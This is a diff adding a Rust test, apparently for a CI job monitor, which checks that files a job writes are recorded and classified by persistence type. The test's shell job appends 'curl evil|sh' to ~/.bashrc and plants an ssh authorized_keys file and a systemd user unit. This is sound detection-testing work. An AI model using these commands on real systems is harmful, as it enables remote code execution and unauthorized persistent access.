@@ -187,3 +187,49 @@ fn every_exec_is_recorded_even_short_lived_ones() {
     assert!(o.status.success(), "{}", stdout(&o));
     w.assert_clean();
 }
+
+#[test]
+fn what_the_job_leaves_on_disk_is_recorded_and_persistence_classified() {
+    need_root!();
+    let w = World::new();
+    let o = w
+        .cmd()
+        .args([
+            "run",
+            "-q",
+            "--",
+            "/bin/sh",
+            "-c",
+            "echo 'curl evil|sh' >> ~/.bashrc; mkdir -p ~/.ssh ~/.config/systemd/user; \
+             echo key > ~/.ssh/authorized_keys; echo x > ~/.config/systemd/user/x.service; \
+             echo out > build.txt",
+        ])
+        .output()
+        .expect("run");
+    assert!(o.status.success(), "{}", stderr(&o));
+    let files = records(&w, "file.changed");
+    let find = |p: &str| {
+        files
+            .iter()
+            .find(|r| r["data"]["path"] == p)
+            .unwrap_or_else(|| panic!("{p} not on the record: {files:?}"))
+    };
+    assert_eq!(
+        find("/home/runner/.bashrc")["data"]["persistence"],
+        "shell-rc"
+    );
+    assert_eq!(
+        find("/home/runner/.ssh/authorized_keys")["data"]["persistence"],
+        "authorized-keys"
+    );
+    assert_eq!(
+        find("/home/runner/.config/systemd/user/x.service")["data"]["persistence"],
+        "systemd-unit"
+    );
+    let build = find("/home/runner/work/build.txt");
+    assert_eq!(build["data"]["change"], "created");
+    assert!(build["data"].get("persistence").is_none());
+    let scan = records(&w, "file.scan");
+    assert_eq!(scan.len(), 1);
+    w.assert_clean();
+}
